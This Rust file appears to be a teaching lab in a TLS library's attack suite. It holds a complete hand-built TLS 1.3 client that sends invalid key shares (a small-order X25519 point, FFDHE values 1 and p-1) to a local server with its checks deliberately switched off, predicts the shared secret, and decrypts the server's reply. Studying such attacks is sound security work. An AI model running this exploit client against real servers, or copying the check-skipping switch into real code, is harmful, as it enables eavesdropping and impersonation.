//! Lab 8: invalid key shares. A Diffie-Hellman "shared secret" is secret
//! only if both sides contributed to it: a peer value of 1 (or p - 1) in a
//! finite-field group, or a point of small order on Curve25519, makes the
//! result a value the attacker knows in advance (RFC 7919 §5.1, RFC 7748
//! §6.1, RFC 8446 §4.2.8.1 and §7.4.2 all say: check, and abort). OpenSSL's
//! CVE-2016-0701 and the invalid-curve attacks on TLS (Jager, Schwenk and
//! Somorovsky, ESORICS 2015) are this check missing.
//!
//! A padlock-tls server with the switch `SkipKeyShareChecks` (crates/tls/
//! src/kx.rs, through padlock-dh's `SkipPeerChecks` in ffdh.rs and
//! x25519.rs) takes such shares. The attacker here is a client with no
//! private key at all, speaking TLS 1.3 by hand: it sends a low-order
//! X25519 point (then the FFDHE shares 1 and p - 1), predicts the shared secret,
//! derives every key the server derives, completes the handshake and reads
//! the server's answer. The real server answers illegal_parameter.

use std::io::Write as _;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use padlock_dh::groups::FFDHE2048;
use padlock_tls::key_schedule::HashAlgorithm;
use padlock_tls::key_schedule::tls13::{EarlySecret, HandshakeSecret};
use padlock_tls::lab::{Switch, Switches};
use padlock_tls::messages::{ClientHello, Extensions, HandshakeType, KeyShare, ext, frame, write_u16_list};
use padlock_tls::record::{ContentType, HalfConn, Record};
use padlock_tls::trace::{Event, KeyExchangeValue, Side, TraceSink};
use padlock_tls::{NamedGroup, ServerConfig};

use crate::net::{self, HANDSHAKE, RawRecord, Server};
use crate::report::{Report, Role};
use crate::{Outcome, Params, Scale, common};

/// A point of order 8 on Curve25519 (its u-coordinate, little-endian):
/// X25519 of any clamped scalar with it is zero (Bernstein's list of
/// small-order points; RFC 7748 §6.1 names the all-zero check).
pub const ORDER_8_POINT: [u8; 32] = [
    0xe0, 0xeb, 0x7a, 0x7c, 0x3b, 0x41, 0xb8, 0xae, 0x16, 0x56, 0xe3, 0xfa, 0xf1, 0x9f, 0xc4, 0x6a, 0xda,
    0x09, 0x8d, 0xeb, 0x9c, 0x32, 0xb1, 0xfd, 0x86, 0x62, 0x05, 0x16, 0x5f, 0x49, 0xb8, 0x00,
];

/// An FFDHE2048 share of 1, as long as p (RFC 8446 §4.2.8.1).
pub fn ffdhe_one() -> Vec<u8> {
    let mut share = vec![0u8; 256];
    share[255] = 1;
    share
}

/// The FFDHE2048 share p - 1 (RFC 7919 appendix A.1's p, minus one).
pub fn ffdhe_p_minus_1() -> Vec<u8> {
    let mut share = FFDHE2048.p.to_vec();
    // p is odd (it is prime), so the last byte does not borrow.
    share[255] -= 1;
    share
}

/// The answer page.
const PAGE: &str = "Internal report Q3: revenue 4.2 M EUR. Do not forward.\n";

pub(crate) fn run(params: &Params, report: &mut Report<'_>) -> Result<Outcome, String> {
    let seed = params.seed;
    let bits = match params.scale {
        Scale::Lab => 2048,
        Scale::Test => 1024,
    };
    report.heading("The setting");
    report.explain(format!(
        "A TLS 1.3 server accepts X25519 and ffdhe2048 key shares. In Diffie-Hellman each side mixes its own \
         secret into the result: Z = peer^x. But some peer values leave nothing to mix: 1^x = 1 and (p-1)^x = \
         ±1 in a finite field, and on Curve25519 a point of small order times any clamped scalar is the point \
         at infinity, encoded as 32 zero bytes. {}",
        if params.fixed {
            "This is the real server (--fixed): padlock-dh refuses Y outside 2..p-2 and Z = 1 (RFC 7919 §5.1), \
             and an all-zero X25519 result (RFC 7748 §6.1, RFC 8446 §7.4.2)."
        } else {
            "Its switch SkipKeyShareChecks is on (crates/tls/src/kx.rs, padlock-dh's SkipPeerChecks): it takes \
             any share and uses whatever comes out."
        }
    ));
    let pki = common::pki(bits, &["localhost"], seed)?;
    let events: Arc<Mutex<Vec<(Side, Event)>>> = Arc::default();
    let mut config = ServerConfig::new(vec![pki.leaf.clone()], pki.key.clone());
    config.trace = Some(collect(&events));
    if !params.fixed {
        config.switches = Switches::NONE.turn_on(Switch::SkipKeyShareChecks);
    }
    let server = Server::start(config, seed, 1, |stream| net::answer_request(stream, PAGE).map(|_| ()))?;
    let p_minus_1 = ffdhe_p_minus_1();
    let acts = [
        ("X25519, a point of order 8", NamedGroup::X25519, ORDER_8_POINT.to_vec(), vec![vec![0u8; 32]]),
        ("ffdhe2048, the share Y = 1", NamedGroup::Ffdhe2048, ffdhe_one(), vec![ffdhe_one()]),
        (
            "ffdhe2048, the share Y = p - 1",
            NamedGroup::Ffdhe2048,
            p_minus_1.clone(),
            vec![ffdhe_one(), p_minus_1],
        ),
    ];
    let mut succeeded = true;
    for (i, (what, group, share, candidates)) in acts.into_iter().enumerate() {
        report.heading(&format!("Act {}: {what}", i + 1));
        if let Ok(mut list) = events.lock() {
            list.clear();
        }
        if candidates.len() > 1 {
            report.explain(
                "(p - 1)^x = (-1)^x mod p: 1 if the server's exponent is even, p - 1 if it is odd. The attacker \
                 cannot tell which in advance, but it does not need to: it derives the handshake keys from both \
                 and keeps the one that opens the server's first encrypted record (AES-GCM's tag says which).",
            );
        }
        let result = handshake(server.address(), group, &share, &candidates, seed + i as u64);
        report.wire(Role::Attacker, Role::Server, format!("ClientHello with the key share {what}"), &share);
        let server_secret = events.lock().ok().and_then(|list| {
            list.iter().find_map(|(_, e)| match e {
                Event::KeyExchange { value: KeyExchangeValue::SharedSecret, bytes, .. } => {
                    Some(bytes.clone())
                }
                _ => None,
            })
        });
        match (result, server_secret) {
            (Ok((page, used)), Some(secret)) => {
                report.leak(if candidates.len() > 1 {
                    "the shared secret, one of two values known before the handshake starts"
                } else {
                    "the shared secret, before the handshake even starts"
                });
                report.recovered("the server's shared secret", &candidates[used], &secret);
                report.explain(
                    "From the predicted secret the attacker ran the TLS 1.3 key schedule exactly as the server \
                     did (RFC 8446 §7.1): handshake secret, handshake traffic keys — so it could read the \
                     server's encrypted Certificate and Finished — then its own Finished and the application \
                     keys. It holds no private key, yet the server took it for a peer with a shared secret.",
                );
                report.value("what the server sent back, decrypted", common::printable(&page));
            }
            (Err(error), _) => {
                report.value("the server", format!("refused: {error}"));
                succeeded = false;
            }
            (Ok(_), None) => return Err("the server traced no shared secret".into()),
        }
    }
    report.explain(
        "Why it matters beyond this connection: a man in the middle who swaps an honest client's share for \
         such a value knows every key the server derives, reads its whole side of the conversation and can \
         answer in the client's name; with a long-lived (static) key, small-subgroup and invalid-curve answers \
         leak the private key itself, a few bits per connection (Lim and Lee 1997; Jager et al. 2015). The fix \
         is a few comparisons.",
    );
    report.figure("handshakes", "3");
    report.figure("private keys used", "none");
    report.verdict(
        succeeded,
        if succeeded {
            "the server derived secrets the attacker knew in advance, and talked to it under them"
        } else {
            "the server refused all three shares with illegal_parameter"
        },
    );
    Ok(Outcome { attack_succeeded: succeeded, queries: 3, seconds: 0.0 })
}

fn collect(events: &Arc<Mutex<Vec<(Side, Event)>>>) -> TraceSink {
    let events = events.clone();
    Arc::new(move |side: Side, event: &Event| {
        if let Ok(mut list) = events.lock() {
            list.push((side, event.clone()));
        }
    })
}

/// A TLS 1.3 client by hand, with key share `share` in `group`, trying the
/// shared secrets it predicts, `candidates`: the page the server answers
/// and which candidate the server's flight opened with.
pub fn handshake(
    address: SocketAddr,
    group: NamedGroup,
    share: &[u8],
    candidates: &[Vec<u8>],
    seed: u64,
) -> Result<(Vec<u8>, usize), String> {
    let hash = HashAlgorithm::Sha256;
    let mut tcp = net::connect(address)?;
    let hello = client_hello(group, share, seed)?;
    tcp.write_all(&RawRecord::new(HANDSHAKE, &hello).to_bytes()).map_err(|e| e.to_string())?;
    let mut transcript = hello;
    // The ServerHello, in the clear (skipping the compatibility ChangeCipherSpec).
    let server_hello = loop {
        let record = net::read_record(&mut tcp).map_err(|e| e.to_string())?.ok_or("the server closed")?;
        if let Some(alert) = record.alert() {
            return Err(format!("alert {}", padlock_tls::alert::AlertDescription::from_u8(alert).name()));
        }
        if record.typ == HANDSHAKE {
            break record.body;
        }
    };
    transcript.extend_from_slice(&server_hello);
    // RFC 8446 §7.1, from each secret the attacker predicted; the one whose
    // key opens the server's first encrypted record is the server's.
    let hello_hash = hash.hash(&transcript);
    let mut tries = Vec::new();
    for secret in candidates {
        let handshake_secret = EarlySecret::new(hash).handshake_secret(secret);
        let server_hs = handshake_secret.server_traffic_secret(&hello_hash);
        tries.push((handshake_secret, half(&server_hs.keys(16))?));
    }
    let (first, used) = open_first(&mut tcp, &mut tries)?;
    let (handshake_secret, mut read) = tries.swap_remove(used);
    let client_hs = handshake_secret.client_traffic_secret(&hello_hash);
    let mut pending = first;
    // EncryptedExtensions, Certificate, CertificateVerify, Finished.
    loop {
        let mut finished = false;
        while let Some(&[typ, l0, l1, l2]) = pending.first_chunk::<4>() {
            let len = 4 + (usize::from(l0) << 16 | usize::from(l1) << 8 | usize::from(l2));
            if pending.len() < len {
                break;
            }
            transcript.extend(pending.drain(..len));
            finished |= typ == HandshakeType::Finished.to_u8();
        }
        if finished {
            break;
        }
        let plaintext = open_next(&mut tcp, &mut read)?;
        pending.extend_from_slice(&plaintext);
    }
    let server_finished_hash = hash.hash(&transcript);
    let master = handshake_secret.master_secret();
    let client_ap = master.client_traffic_secret(&server_finished_hash);
    let server_ap = master.server_traffic_secret(&server_finished_hash);
    let finished = frame(HandshakeType::Finished, &client_hs.verify_data(&server_finished_hash))
        .map_err(|e| e.to_string())?;
    let mut write = half(&client_hs.keys(16))?;
    let mut out = write.seal(ContentType::Handshake, &finished).map_err(|e| e.to_string())?;
    let mut app_write = half(&client_ap.keys(16))?;
    out.extend(
        app_write
            .seal(ContentType::ApplicationData, b"GET /report HTTP/1.1\r\nHost: localhost\r\n\r\n")
            .map_err(|e| e.to_string())?,
    );
    tcp.write_all(&out).map_err(|e| e.to_string())?;
    let mut app_read = half(&server_ap.keys(16))?;
    let mut page = Vec::new();
    while let Ok(Some(record)) = net::read_record(&mut tcp) {
        let Some(content_type) = ContentType::from_u8(record.typ) else { break };
        let opened = app_read.open(Record { content_type, version: record.version, fragment: record.body });
        match opened {
            Ok((ContentType::ApplicationData, data)) => page.extend_from_slice(&data),
            Ok((ContentType::Alert, _)) | Err(_) => break,
            Ok(_) => {}
        }
    }
    Ok((page, used))
}

/// The ClientHello: TLS 1.3 only, TLS_AES_128_GCM_SHA256, one key share.
fn client_hello(group: NamedGroup, share: &[u8], seed: u64) -> Result<Vec<u8>, String> {
    let mut extensions = Extensions::default();
    let pushed = extensions
        .push(ext::SUPPORTED_VERSIONS, |w| {
            w.vec8(|w| {
                w.u16(0x0304);
            });
        })
        .and_then(|()| extensions.push(ext::SUPPORTED_GROUPS, |w| write_u16_list(w, &[group.id()])))
        .and_then(|()| extensions.push(ext::SIGNATURE_ALGORITHMS, |w| write_u16_list(w, &[0x0804])))
        .and_then(|()| {
            extensions.push(ext::KEY_SHARE, |w| {
                w.vec16(|w| KeyShare { group: group.id(), key_exchange: share.to_vec() }.encode(w));
            })
        });
    pushed.map_err(|e| e.to_string())?;
    let random: [u8; 32] = net::random_bytes(seed, 60, 32).try_into().map_err(|_| "random")?;
    let hello = ClientHello {
        legacy_version: 0x0303,
        random,
        session_id: Vec::new(),
        cipher_suites: vec![padlock_tls::suites::TLS13_AES_128_GCM_SHA256.id],
        compression_methods: vec![0],
        extensions,
    };
    frame(HandshakeType::ClientHello, &hello.encode().map_err(|e| e.to_string())?).map_err(|e| e.to_string())
}

fn half(keys: &padlock_tls::key_schedule::tls13::TrafficKeys) -> Result<HalfConn, String> {
    HalfConn::tls13_gcm(&keys.key, keys.iv).map_err(|e| e.to_string())
}

/// The first protected record's content, opened with whichever of the
/// `tries` keys opens it, and that key's index.
fn open_first(
    tcp: &mut std::net::TcpStream,
    tries: &mut [(HandshakeSecret, HalfConn)],
) -> Result<(Vec<u8>, usize), String> {
    let record = loop {
        let record = net::read_record(tcp).map_err(|e| e.to_string())?.ok_or("the server closed")?;
        if let Some(alert) = record.alert() {
            return Err(format!("alert {}", padlock_tls::alert::AlertDescription::from_u8(alert).name()));
        }
        if record.typ != net::CHANGE_CIPHER_SPEC {
            break record;
        }
    };
    let content_type = ContentType::from_u8(record.typ).ok_or("an unknown record type")?;
    for (i, (_, read)) in tries.iter_mut().enumerate() {
        let attempt = Record { content_type, version: record.version, fragment: record.body.clone() };
        if let Ok((ContentType::Handshake, data)) = read.open(attempt) {
            return Ok((data, i));
        }
    }
    Err("no predicted secret opens the server's flight".into())
}

/// The next protected record's content (change_cipher_spec records skipped).
fn open_next(tcp: &mut std::net::TcpStream, read: &mut HalfConn) -> Result<Vec<u8>, String> {
    loop {
        let record = net::read_record(tcp).map_err(|e| e.to_string())?.ok_or("the server closed")?;
        if record.typ == net::CHANGE_CIPHER_SPEC {
            continue;
        }
        if let Some(alert) = record.alert() {
            return Err(format!("alert {}", padlock_tls::alert::AlertDescription::from_u8(alert).name()));
        }
        let content_type = ContentType::from_u8(record.typ).ok_or("an unknown record type")?;
        let (inner, data) =
            read.open(Record { content_type, version: record.version, fragment: record.body }).map_err(
                |e| format!("cannot decrypt the server's flight ({e}): the predicted secret is wrong"),
            )?;
        if inner == ContentType::Alert {
            return Err("the server sent an alert".into());
        }
        return Ok(data);
    }
}
